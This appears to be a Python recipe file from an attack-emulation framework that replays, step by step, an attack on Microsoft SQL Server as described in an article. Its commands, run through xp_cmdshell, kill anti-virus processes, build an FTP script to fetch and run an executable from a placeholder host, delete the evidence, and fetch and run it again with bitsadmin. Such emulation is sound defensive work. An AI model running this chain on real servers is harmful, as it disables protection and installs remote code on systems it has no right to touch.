"""The attack on SQL Server that the first article tells: end the anti-virus, fetch by FTP, fetch again by HTTP, run."""

from longtail.fleet.attack import Attack

ANTIVIRUS = ("360rp.exe", "360sd.exe", "360rps.exe")
KILL = tuple(f"xp: taskkill /im {name} /f" for name in ANTIVIRUS)
DEBUG = tuple(f"xp=: ntsd -c q -pn {name}" for name in ANTIVIRUS)

RECIPES = (
    Attack(
        "article",
        ("mssql",),
        ("T1059.003", "T1562.001", "T1105", "T1197", "T1070.004"),
        "the chain of the article, word for word, through xp_cmdshell",
        (
            *KILL,
            *DEBUG,
            "xp: echo open {wan}>So.2",
            "xp: echo 111>>So.2",
            "xp: echo 000>>So.2",
            "xp: echo get Svn.exe >>So.2",
            "xp: echo bye>>So.2",
            "xp=: ftp -s:So.2",
            "xp: del So.2",
            "xp: Svn.exe",
            r"xp: bitsadmin /transfer n http://{wan}/Svn.exe c:\Users\Public\Svn.exe",
            r"xp: c:\Users\Public\Svn.exe",
        ),
        gap=(0.3, 20.0),
    ),
)
